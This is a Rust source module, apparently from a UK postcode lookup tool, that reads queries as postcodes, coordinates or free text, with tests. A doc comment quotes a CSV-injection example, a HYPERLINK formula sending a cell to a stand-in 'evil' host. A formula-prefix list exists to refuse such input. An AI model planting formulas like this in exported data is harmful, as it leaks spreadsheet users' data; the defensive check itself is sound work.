//! What a user gave, read as a query: a postcode (full or partial), a WGS84 or BNG point, or
//! free text, in which a full postcode is looked for.
//!
//! Pure: no I/O. [`read`] is the one place that decides what a typed query means: the command
//! line, `GET` and `POST /v1/lookup`, batch rows and (through the API) the web page all read
//! their input with it, so an input means the same thing, and fails the same way, everywhere.

use serde::Serialize;

use crate::engine::coord::{Bng, CoordError, LonLat};
use crate::engine::postcode::{self, PostcodeError, PostcodeQuery};

/// Longest text accepted as a query (a postcode or free text), in characters, everywhere.
pub const MAX_TEXT_CHARS: usize = 300;

/// Free text at most this long (in characters) with a digit in it and no postcode is read as
/// a mistyped postcode (`NR1-1A`, `NR99X`) and gets the postcode's own error, not a place
/// search.
pub const POSTCODE_LIKE_CHARS: usize = 8;

/// Two numbers in text up to this size are degrees (latitude, longitude); larger ones are BNG
/// metres.
const MAX_DEGREES_TEXT: f64 = 1_000.0;

/// A lookup as asked.
#[derive(Debug, Clone, PartialEq)]
pub enum Query {
    /// Postcode text, full or partial, any case and spacing.
    Postcode(String),
    /// A WGS84 point.
    Point {
        /// Latitude.
        lat: f64,
        /// Longitude.
        lon: f64,
    },
    /// A British National Grid point, metres.
    Bng {
        /// Easting.
        easting: f64,
        /// Northing.
        northing: f64,
    },
    /// Free text: an address, a road and locality, or a place name. A full postcode in it wins.
    Text(String),
}

/// What a user gave, before it is read: one box of text, or one structured field (pair).
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum Given<'a> {
    /// Text typed in one box: the command line's words, `q=`, a batch address.
    Text(&'a str),
    /// Text given as a postcode: `postcode=`, a batch postcode column. A full postcode in
    /// longer text (`NR1 1AA, UK`) is used; a point or a place name is not read.
    Postcode(&'a str),
    /// A WGS84 point given as two fields.
    LatLon {
        /// Latitude.
        lat: f64,
        /// Longitude.
        lon: f64,
    },
    /// A BNG point given as two fields, metres.
    EastingNorthing {
        /// Easting.
        easting: f64,
        /// Northing.
        northing: f64,
    },
}

/// How a query was read.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
#[serde(rename_all = "snake_case")]
pub enum ReadingKind {
    /// A full postcode.
    Unit,
    /// A postcode sector (`NR1 1`).
    Sector,
    /// A postcode district, the outward code (`NR1`).
    District,
    /// A postcode area (`NR`).
    Area,
    /// A WGS84 point.
    Wgs84Point,
    /// A British National Grid point.
    BngPoint,
    /// Free text holding one full postcode, which is used.
    TextWithPostcode,
    /// Free text naming a place, or a road and its town: the gazetteer reads it.
    PlaceText,
}

impl ReadingKind {
    /// The name used in JSON.
    #[must_use]
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Unit => "unit",
            Self::Sector => "sector",
            Self::District => "district",
            Self::Area => "area",
            Self::Wgs84Point => "wgs84_point",
            Self::BngPoint => "bng_point",
            Self::TextWithPostcode => "text_with_postcode",
            Self::PlaceText => "place_text",
        }
    }

    /// True for the partial postcodes (a sector, district or area), answered with a summary.
    #[must_use]
    pub fn is_partial_postcode(self) -> bool {
        matches!(self, Self::Sector | Self::District | Self::Area)
    }
}

/// A query as read, with the reason for the reading.
#[derive(Debug, Clone, PartialEq)]
pub struct Reading {
    /// What kind of query the input was read as.
    pub kind: ReadingKind,
    /// Why, for people (`the whole text is a full postcode`).
    pub reason: &'static str,
    /// The query to answer.
    pub query: Query,
    /// For [`ReadingKind::TextWithPostcode`]: where in the text the postcode was.
    pub text_match: Option<TextMatch>,
}

impl Reading {
    /// The reading as it appears in answers: kind and reason.
    #[must_use]
    pub fn summary(&self) -> ReadingSummary {
        ReadingSummary {
            kind: self.kind,
            reason: self.reason,
        }
    }
}

/// How the query was read, as answers report it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct ReadingSummary {
    /// What kind of query the input was read as.
    pub kind: ReadingKind,
    /// Why.
    pub reason: &'static str,
}

/// Why an input cannot be read as a query.
#[derive(Debug, Clone, PartialEq, thiserror::Error)]
#[non_exhaustive]
pub enum QueryError {
    /// Nothing but spaces and punctuation.
    #[error("the text is empty: give a postcode, a road and town, or a place name")]
    Empty,
    /// Over [`MAX_TEXT_CHARS`].
    #[error("the text is longer than {MAX_TEXT_CHARS} characters ({chars})")]
    TooLong {
        /// Its length in characters.
        chars: usize,
    },
    /// Not a postcode, or a postcode that must be corrected first (with the suggestion).
    #[error(transparent)]
    BadPostcode(#[from] PostcodeError),
    /// Two different full postcodes in one text.
    #[error("the text holds two postcodes, {first} and {second}: give one")]
    TwoPostcodes {
        /// The first, normalised.
        first: String,
        /// The second, normalised.
        second: String,
    },
    /// A point out of range or not finite.
    #[error(transparent)]
    BadCoordinate(#[from] CoordError),
    /// Text a spreadsheet would run as a formula ([`is_formula_text`]): never read, so that
    /// `=HYPERLINK("http://evil/?"&A2,"NR1 1AA")` is not answered as NR1 1AA.
    #[error(
        "the text starts with {first:?} and would be a spreadsheet formula: it is not read as a \
         query (remove the {first:?})"
    )]
    Formula {
        /// The character it starts with.
        first: char,
    },
}

impl QueryError {
    /// Corrected or candidate forms of the input (`NR1 1AA` for `NR11 AA`; both postcodes of
    /// a text that holds two).
    #[must_use]
    pub fn suggestions(&self) -> Vec<String> {
        match self {
            Self::BadPostcode(e) => e.suggestion().map(str::to_string).into_iter().collect(),
            Self::TwoPostcodes { first, second } => vec![first.clone(), second.clone()],
            _ => Vec::new(),
        }
    }
}

/// Reads what a user gave as a query, saying why; the one place that decides what an input
/// means.
///
/// Text is read in this order:
/// 1. over [`MAX_TEXT_CHARS`]: refused; without a letter or digit: refused as empty;
/// 2. two numbers (`52.6309,1.2974`, `52.6309 1.2974`) are a WGS84 point when they fit as
///    latitude and longitude, else a BNG easting and northing; `E 624073 N 308352` is BNG;
/// 3. the whole text as a postcode, full or partial ([`postcode::parse`]); a postcode that
///    must be corrected first (`NR11 AA`, `NR18-0UR`, `PE3O 1EX`) is refused with the
///    correction, never answered as it;
/// 4. full postcodes in the text ([`find_postcodes`]): one is used; two different ones are
///    refused; two halves of one joined by punctuation (`NR1, 1AA`) are refused with the
///    correction;
/// 5. short text with a digit ([`POSTCODE_LIKE_CHARS`]) is a mistyped postcode;
/// 6. anything else is a place, or a road and its town.
///
/// A [`Given::Postcode`] field takes steps 1, 3 and 4 only: it is never a point or a place.
///
/// # Errors
/// [`QueryError`] saying why the input cannot be read.
///
/// ```
/// # use careband::engine::query::{read, Given, ReadingKind};
/// assert_eq!(read(Given::Text(" nr11aa\n")).unwrap().kind, ReadingKind::Unit);
/// assert_eq!(read(Given::Text("NR1")).unwrap().kind, ReadingKind::District);
/// assert_eq!(read(Given::Text("52.6309,1.2974")).unwrap().kind, ReadingKind::Wgs84Point);
/// assert_eq!(read(Given::Text("Ollands Road, Reepham")).unwrap().kind, ReadingKind::PlaceText);
/// let e = read(Given::Text("NR11 AA")).unwrap_err();
/// assert_eq!(e.suggestions(), ["NR1 1AA"]);
/// ```
pub fn read(given: Given<'_>) -> Result<Reading, QueryError> {
    match given {
        Given::LatLon { lat, lon } => wgs84(lat, lon, "given as latitude and longitude"),
        Given::EastingNorthing { easting, northing } => {
            bng(easting, northing, "given as easting and northing")
        }
        Given::Text(text) => read_text(text, true),
        Given::Postcode(text) => read_text(text, false),
    }
}

fn wgs84(lat: f64, lon: f64, reason: &'static str) -> Result<Reading, QueryError> {
    LonLat::new(lon, lat)?;
    Ok(Reading {
        kind: ReadingKind::Wgs84Point,
        reason,
        query: Query::Point { lat, lon },
        text_match: None,
    })
}

fn bng(easting: f64, northing: f64, reason: &'static str) -> Result<Reading, QueryError> {
    Bng::new(easting, northing)?;
    Ok(Reading {
        kind: ReadingKind::BngPoint,
        reason,
        query: Query::Bng { easting, northing },
        text_match: None,
    })
}

fn postcode_reading(q: &PostcodeQuery, reason: &'static str) -> Reading {
    let kind = match q {
        PostcodeQuery::Unit(_) => ReadingKind::Unit,
        PostcodeQuery::Sector(_) => ReadingKind::Sector,
        PostcodeQuery::District(_) => ReadingKind::District,
        PostcodeQuery::Area(_) => ReadingKind::Area,
    };
    Reading {
        kind,
        reason,
        query: Query::Postcode(q.as_str().to_string()),
        text_match: None,
    }
}

fn read_text(text: &str, free: bool) -> Result<Reading, QueryError> {
    let chars = text.chars().count();
    if chars > MAX_TEXT_CHARS {
        return Err(QueryError::TooLong { chars });
    }
    let t = text.trim();
    if !t.chars().any(char::is_alphanumeric) {
        return Err(if free {
            QueryError::Empty
        } else {
            QueryError::BadPostcode(PostcodeError::Empty)
        });
    }
    // Two numbers first: `-1.29, 52.63` is a point, not a formula.
    if free && let Some(r) = point_text(t) {
        return r;
    }
    // Leading spaces, tabs and line breaks are trimmed before reading, so the check is on
    // the trimmed text: `\t=1+1` is refused as `=1+1` is.
    if is_formula_text(t)
        && let Some(first) = t.chars().next()
    {
        return Err(QueryError::Formula { first });
    }
    let whole = match postcode::parse(t) {
        Ok(q) => return Ok(postcode_reading(&q, "the whole text is a postcode")),
        Err(e) if e.suggestion().is_some() => return Err(e.into()),
        Err(e) => e,
    };
    // The original text, so that `text_match` counts from the start of what was given.
    let found = find_postcodes(text);
    let mut units = found.iter().filter_map(|f| match f {
        Found::Unit(m) => Some(m),
        Found::Separated { .. } => None,
    });
    if let Some(last) = units.next_back() {
        if let Some(other) = units.rev().find(|m| m.postcode != last.postcode) {
            return Err(QueryError::TwoPostcodes {
                first: other.postcode.clone(),
                second: last.postcode.clone(),
            });
        }
        return Ok(Reading {
            kind: ReadingKind::TextWithPostcode,
            reason: "a full postcode in the text is used",
            query: Query::Postcode(last.postcode.clone()),
            text_match: Some(last.clone()),
        });
    }
    if let Some(Found::Separated { text, suggestion }) = found.last() {
        let found = text.chars().find(|c| SEPARATORS.contains(c)).unwrap_or(',');
        return Err(PostcodeError::Separated {
            text: text.clone(),
            found,
            suggestion: suggestion.clone(),
        }
        .into());
    }
    if !free || (t.chars().count() <= POSTCODE_LIKE_CHARS && t.chars().any(|c| c.is_ascii_digit()))
    {
        return Err(whole.into());
    }
    Ok(Reading {
        kind: ReadingKind::PlaceText,
        reason: "no postcode or point in the text: read as a place, or a road and its town",
        query: Query::Text(t.to_string()),
        text_match: None,
    })
}

/// Characters that make a spreadsheet read a cell as a formula when they start it (the OWASP
/// list for CSV injection).
pub const FORMULA_STARTS: &[char] = &['=', '+', '-', '@', '\t', '\r'];

/// True when a spreadsheet would treat `cell` as a formula: it starts with one of
/// [`FORMULA_STARTS`] and is not a plain number.
///
/// A plain number (`-1.29`, `+44`, `-1,5`, `1e-3`: an optional sign, digits with at most one
/// decimal point or comma, an optional exponent) is a number to a spreadsheet, not a
/// formula, so negative coordinates stay numbers.
///
/// ```
/// # use careband::engine::query::is_formula_text;
/// assert!(is_formula_text("=1+1"));
/// assert!(is_formula_text("@SUM(A1)"));
/// assert!(is_formula_text("-1+2"));
/// assert!(!is_formula_text("-1.29"));
/// assert!(!is_formula_text("NR1 1AA"));
/// ```
#[must_use]
pub fn is_formula_text(cell: &str) -> bool {
    cell.starts_with(FORMULA_STARTS) && !is_plain_number(cell)
}

/// An optional sign, digits with at most one `.` or `,`, and an optional exponent.
fn is_plain_number(s: &str) -> bool {
    let body = s.strip_prefix(['+', '-']).unwrap_or(s);
    let (mantissa, exponent) = match body.find(['e', 'E']) {
        Some(i) => (&body[..i], Some(&body[i + 1..])),
        None => (body, None),
    };
    let mut digits = 0;
    let mut points = 0;
    for c in mantissa.chars() {
        match c {
            '0'..='9' => digits += 1,
            '.' | ',' => points += 1,
            _ => return false,
        }
    }
    let exponent_ok = exponent.is_none_or(|e| {
        let e = e.strip_prefix(['+', '-']).unwrap_or(e);
        !e.is_empty() && e.bytes().all(|b| b.is_ascii_digit())
    });
    digits > 0 && points <= 1 && exponent_ok
}

/// Two numbers, or `E <easting> N <northing>`: a point.
fn point_text(t: &str) -> Option<Result<Reading, QueryError>> {
    let words: Vec<&str> = t
        .split(|c: char| c == ',' || c.is_whitespace())
        .filter(|w| !w.is_empty())
        .collect();
    let number = |w: &str| {
        w.parse::<f64>()
            .ok()
            .filter(|_| w.bytes().any(|b| b.is_ascii_digit()))
    };
    match words.as_slice() {
        [a, b] => {
            let (a, b) = (number(a)?, number(b)?);
            // Degrees never exceed 180 and grid metres in England are in the tens of
            // thousands, so the size says which was meant; `52.6, 200` is a bad longitude,
            // not a point near the grid's origin.
            Some(
                if a.abs() <= MAX_DEGREES_TEXT && b.abs() <= MAX_DEGREES_TEXT {
                    wgs84(a, b, "two numbers read as latitude and longitude")
                } else {
                    bng(
                        a,
                        b,
                        "two numbers too large for degrees, read as easting and northing",
                    )
                },
            )
        }
        [e_mark, easting, n_mark, northing]
            if e_mark.eq_ignore_ascii_case("e") && n_mark.eq_ignore_ascii_case("n") =>
        {
            Some(bng(
                number(easting)?,
                number(northing)?,
                "an easting and northing marked E and N",
            ))
        }
        _ => None,
    }
}

/// Where in free text the postcode was found.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct TextMatch {
    /// The text as given at that place (`nr1 1aa`).
    pub text: String,
    /// Its start, in characters from the start of `q`.
    pub start: usize,
    /// Its end (exclusive), in characters.
    pub end: usize,
    /// The postcode it was read as (`NR1 1AA`).
    pub postcode: String,
}

/// A postcode found in free text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Found {
    /// A full postcode, with or without its space.
    Unit(TextMatch),
    /// The two parts of a full postcode joined by punctuation (`NR1, 1AA`, `NR18-0UR`).
    Separated {
        /// The text as given, from the first part to the second.
        text: String,
        /// The postcode it would be.
        suggestion: String,
    },
}

/// Punctuation that may stand between the two parts of a postcode typed in free text.
const SEPARATORS: &[char] = &['-', ',', '.', '/', '_'];

/// Finds the last full postcode in free text, written with or without its space
/// (`..., Norwich NR1 1AA`, `nr11aa`).
///
/// Postcodes normally end an address, so the last one wins; house numbers and flat letters
/// before it cannot be mistaken for one because a match needs a whole outward code and a
/// whole inward code (digit + two letters).
///
/// ```
/// # use careband::engine::query::find_postcode;
/// let m = find_postcode("Flat 2, 10 Rose Lane, Norwich nr1 1aa, UK").unwrap();
/// assert_eq!(m.postcode, "NR1 1AA");
/// assert_eq!(m.text, "nr1 1aa");
/// assert!(find_postcode("10 Rose Lane, Norwich").is_none());
/// ```
#[must_use]
pub fn find_postcode(text: &str) -> Option<TextMatch> {
    find_postcodes(text)
        .into_iter()
        .rev()
        .find_map(|f| match f {
            Found::Unit(m) => Some(m),
            Found::Separated { .. } => None,
        })
}

/// Every full postcode in free text, in order, and every pair of parts of one joined by
/// punctuation. A token is used once: `NR1 1AA` is one postcode, not also `1AA...`.
#[must_use]
pub fn find_postcodes(text: &str) -> Vec<Found> {
    // Runs of ASCII letters and digits, with their char offsets and byte spans.
    let mut tokens: Vec<(usize, usize, usize, usize)> = Vec::new(); // (char start, char end, byte start, byte end)
    let mut current: Option<(usize, usize)> = None;
    let mut chars = 0;
    for (byte, c) in text.char_indices() {
        if c.is_ascii_alphanumeric() {
            current.get_or_insert((chars, byte));
        } else if let Some((cs, bs)) = current.take() {
            tokens.push((cs, chars, bs, byte));
        }
        chars += 1;
    }
    if let Some((cs, bs)) = current {
        tokens.push((cs, chars, bs, text.len()));
    }
    let unit = |s: &str| match postcode::parse(s) {
        Ok(PostcodeQuery::Unit(p)) => Some(p.to_string()),
        _ => None,
    };
    let mut found = Vec::new();
    let mut i = 0;
    while i < tokens.len() {
        let (cs, ce, bs, be) = tokens[i];
        let here = &text[bs..be];
        if let Some(&(_, ce2, bs2, be2)) = tokens.get(i + 1) {
            let next = &text[bs2..be2];
            let gap = &text[be..bs2];
            if next.len() == 3
                && (2..=4).contains(&here.len())
                && let Some(p) = unit(&format!("{here} {next}"))
            {
                // Only whitespace may separate the two halves ("NR1 1AA"); punctuation
                // ("NR1, 1AA") makes a postcode to suggest, not to use.
                if gap.chars().all(char::is_whitespace) {
                    found.push(Found::Unit(TextMatch {
                        text: text[bs..be2].to_string(),
                        start: cs,
                        end: ce2,
                        postcode: p,
                    }));
                    i += 2;
                    continue;
                }
                if gap
                    .chars()
                    .all(|c| c.is_whitespace() || SEPARATORS.contains(&c))
                    && gap.chars().filter(|c| SEPARATORS.contains(c)).count() <= 2
                {
                    found.push(Found::Separated {
                        text: text[bs..be2].to_string(),
                        suggestion: p,
                    });
                    i += 2;
                    continue;
                }
            }
        }
        if (5..=7).contains(&here.len())
            && let Some(p) = unit(here)
        {
            found.push(Found::Unit(TextMatch {
                text: here.to_string(),
                start: cs,
                end: ce,
                postcode: p,
            }));
        }
        i += 1;
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::postcode::tests::{any_case, valid_postcode};
    use proptest::prelude::*;

    #[test]
    fn the_postcode_at_the_end_of_an_address_is_found() {
        let m = find_postcode("12 High St, Wymondham, NR18 0AA").unwrap();
        assert_eq!(m.postcode, "NR18 0AA");
        assert_eq!((m.start, m.end), (23, 31));
        assert_eq!(m.text, "NR18 0AA");
    }

    #[test]
    fn a_postcode_without_its_space_is_found() {
        let m = find_postcode("Norwich nr11aa").unwrap();
        assert_eq!(m.postcode, "NR1 1AA");
        assert_eq!(m.text, "nr11aa");
    }

    #[test]
    fn offsets_count_characters_not_bytes() {
        let m = find_postcode("Café Row — NR1 1AA").unwrap();
        assert_eq!((m.start, m.end), (11, 18));
        assert_eq!(m.text, "NR1 1AA");
    }

    #[test]
    fn house_numbers_and_partial_codes_are_not_postcodes() {
        assert!(find_postcode("Flat 2A, 10 Rose Lane").is_none());
        assert!(find_postcode("NR1").is_none());
        assert!(find_postcode("").is_none());
        // A comma between the halves is not a postcode's space.
        assert!(find_postcode("NR1, 1AA").is_none());
    }

    #[test]
    fn the_last_postcode_wins() {
        assert_eq!(
            find_postcode("from NR1 1AA to NR2 2BB").unwrap().postcode,
            "NR2 2BB"
        );
    }

    fn kind(text: &str) -> ReadingKind {
        match read(Given::Text(text)) {
            Ok(r) => r.kind,
            Err(e) => panic!("{text:?} should be read, got {e:?}"),
        }
    }

    #[test]
    fn each_kind_of_text_is_read_as_such() {
        assert_eq!(kind("nr1  1aa"), ReadingKind::Unit);
        assert_eq!(kind("NR1 1"), ReadingKind::Sector);
        assert_eq!(kind("nr1"), ReadingKind::District);
        assert_eq!(kind("NR"), ReadingKind::Area);
        assert_eq!(kind("52.6309,1.2974"), ReadingKind::Wgs84Point);
        assert_eq!(kind("52.6309 1.2974"), ReadingKind::Wgs84Point);
        assert_eq!(kind("624073, 308352"), ReadingKind::BngPoint);
        assert_eq!(kind("E 624073 N 308352"), ReadingKind::BngPoint);
        assert_eq!(
            kind("12 High St, Wymondham, NR18 0AA"),
            ReadingKind::TextWithPostcode
        );
        assert_eq!(kind("Ollands Road, Reepham"), ReadingKind::PlaceText);
        assert_eq!(kind("Hethersett"), ReadingKind::PlaceText);
    }

    #[test]
    fn texts_that_cannot_be_read_are_refused_with_the_reason() {
        assert_eq!(read(Given::Text(" ,. ")), Err(QueryError::Empty));
        assert_eq!(
            read(Given::Text(&"a".repeat(301))),
            Err(QueryError::TooLong { chars: 301 })
        );
        assert!(read(Given::Text(&"a".repeat(300))).is_ok());
        assert_eq!(
            read(Given::Text("from NR1 1AA to NR2 2BB")),
            Err(QueryError::TwoPostcodes {
                first: "NR1 1AA".into(),
                second: "NR2 2BB".into()
            })
        );
        // The same postcode twice is one postcode.
        assert_eq!(kind("NR1 1AA (nr11aa)"), ReadingKind::TextWithPostcode);
        for (text, want) in [
            ("NR1, 1AA", "NR1 1AA"),
            ("NR11 AA", "NR1 1AA"),
            ("IP14 AA", "IP1 4AA"),
            ("NR18-0UR", "NR18 0UR"),
            ("PE3O 1EX", "PE30 1EX"),
            ("Rose Lane, Norwich, NR1, 1AA", "NR1 1AA"),
        ] {
            let e = read(Given::Text(text)).unwrap_err();
            assert_eq!(e.suggestions(), [want], "{text:?}: {e}");
        }
        // A short text with a digit is a mistyped postcode, not a place.
        assert!(matches!(
            read(Given::Text("NR99X")),
            Err(QueryError::BadPostcode(_))
        ));
        assert!(matches!(
            read(Given::Text("52.6, 200")),
            Err(QueryError::BadCoordinate(_))
        ));
    }

    #[test]
    fn a_postcode_field_is_never_a_point_or_a_place() {
        assert!(read(Given::Postcode("52.6309,1.2974")).is_err());
        assert!(read(Given::Postcode("Hethersett")).is_err());
        assert_eq!(
            read(Given::Postcode("")),
            Err(QueryError::BadPostcode(PostcodeError::Empty))
        );
        let r = read(Given::Postcode("NR1 1AA, UK")).unwrap();
        assert_eq!(r.kind, ReadingKind::TextWithPostcode);
        assert_eq!(r.query, Query::Postcode("NR1 1AA".into()));
    }

    #[test]
    fn points_given_as_fields_are_checked() {
        assert!(
            read(Given::LatLon {
                lat: 91.0,
                lon: 0.0
            })
            .is_err()
        );
        assert!(
            read(Given::LatLon {
                lat: f64::NAN,
                lon: 0.0
            })
            .is_err()
        );
        assert_eq!(
            read(Given::EastingNorthing {
                easting: 624_073.0,
                northing: 308_352.0
            })
            .unwrap()
            .kind,
            ReadingKind::BngPoint
        );
    }

    /// The characters `start..end` of `text`.
    fn chars(text: &str, start: usize, end: usize) -> String {
        text.chars().skip(start).take(end - start).collect()
    }

    /// A valid postcode as it might end an address: random case, written with its space (or
    /// another run of whitespace) or without one; and the normalised postcode.
    fn written_postcode() -> impl Strategy<Value = (String, String)> {
        (
            valid_postcode(),
            prop_oneof![Just(""), Just(" "), Just("  "), Just("\t"), Just("\u{a0}")],
        )
            .prop_flat_map(|(code, space)| {
                let written = code.replacen(' ', space, 1);
                (any_case(written), Just(code))
            })
    }

    /// Text of any Unicode characters, with runs of ASCII letters and digits mixed in so that
    /// postcode-like tokens (and real postcodes) turn up.
    fn address_like() -> impl Strategy<Value = String> {
        proptest::collection::vec(
            prop_oneof![any::<String>(), "[A-Za-z0-9]{1,7}", "[ ,.\t—é]{1,2}"],
            0..8,
        )
        .prop_map(|parts| parts.concat())
    }

    proptest! {
        #[test]
        fn a_postcode_after_a_separator_is_found_where_it_stands(
            before in address_like(),
            separator in "[^A-Za-z0-9]{1,3}",
            (written, code) in written_postcode(),
            after in "[^A-Za-z0-9]{0,3}",
        ) {
            let text = format!("{before}{separator}{written}{after}");
            let m = find_postcode(&text);
            prop_assert!(m.is_some(), "{text:?}");
            let m = m.unwrap();
            prop_assert_eq!(&m.postcode, &code);
            prop_assert_eq!(&m.text, &written);
            let start = before.chars().count() + separator.chars().count();
            prop_assert_eq!((m.start, m.end), (start, start + written.chars().count()));
            prop_assert_eq!(chars(&text, m.start, m.end), written);
        }

        #[test]
        fn a_text_with_two_different_postcodes_is_refused_naming_both(
            before in "[a-z ,]{0,10}",
            a in valid_postcode(),
            middle in "[a-z]{1,5}( [a-z]{1,5})?",
            b in valid_postcode(),
        ) {
            prop_assume!(a != b);
            let text = format!("{before} {a}, {middle} {b}");
            let r = read(Given::Text(&text));
            prop_assert_eq!(
                r,
                Err(QueryError::TwoPostcodes { first: a, second: b }),
                "{}", text
            );
        }

        #[test]
        fn a_postcode_read_from_text_is_the_postcode_parse_gives(text in address_like()) {
            if let Ok(r) = read(Given::Text(&text))
                && let Query::Postcode(p) = &r.query
            {
                prop_assert_eq!(postcode::parse(p).map(|q| q.as_str().to_string()), Ok(p.clone()));
            }
        }

        #[test]
        fn any_text_is_read_without_panicking_and_a_match_slices_back(text in address_like()) {
            if let Some(m) = find_postcode(&text) {
                prop_assert!(m.start < m.end);
                prop_assert_eq!(chars(&text, m.start, m.end), m.text.clone());
                let parsed = postcode::parse(&m.text);
                prop_assert!(
                    matches!(&parsed, Ok(PostcodeQuery::Unit(p)) if p.as_str() == m.postcode),
                    "{:?}: {parsed:?}",
                    m.text
                );
            }
        }
    }
}
